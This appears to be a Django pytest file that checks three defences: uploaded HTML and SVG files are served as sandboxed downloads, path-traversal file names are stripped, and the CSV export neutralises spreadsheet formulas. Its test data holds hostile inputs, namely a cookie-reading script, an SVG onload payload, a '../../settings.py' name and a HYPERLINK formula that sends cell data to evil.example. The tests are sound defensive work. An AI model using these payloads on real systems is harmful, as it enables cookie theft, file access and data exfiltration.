"""Audit: what leaves the queries area as a file: attachments are downloaded as bytes, never
rendered as a page of the site; the CSV export hands no formulas to a spreadsheet."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from projects.services.queries import query_ask

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "name, content",
    [
        ("report.html", b"<script>alert(document.cookie)</script>"),
        ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ],
)
def test_an_uploaded_page_is_served_as_a_download_of_bytes(client, team, name, content):
    query = query_ask(
        actor=team.customer,
        project=team.project,
        title="See file",
        body="Attached.",
        files=[SimpleUploadedFile(name, content, content_type="text/html")],
    )
    client.force_login(team.expert)
    response = client.get(query.attachments.get().get_absolute_url())
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == content


def test_a_file_name_with_a_path_is_kept_to_its_last_part(client, team):
    query = query_ask(
        actor=team.customer,
        project=team.project,
        title="See file",
        body="Attached.",
        files=[SimpleUploadedFile("../../settings.py", b"x")],
    )
    attachment = query.attachments.get()
    assert attachment.name == "settings.py"
    assert ".." not in attachment.file.name
    client.force_login(team.customer)
    response = client.get(attachment.get_absolute_url())
    assert 'filename="settings.py"' in response["Content-Disposition"]


def test_the_query_export_does_not_hand_formulas_to_a_spreadsheet(client, team):
    query_ask(
        actor=team.customer,
        project=team.project,
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        body="x",
    )
    client.force_login(team.customer)
    response = client.get(reverse("queries:project_export", kwargs={"pk": team.project.pk}))
    text = response.content.decode()
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
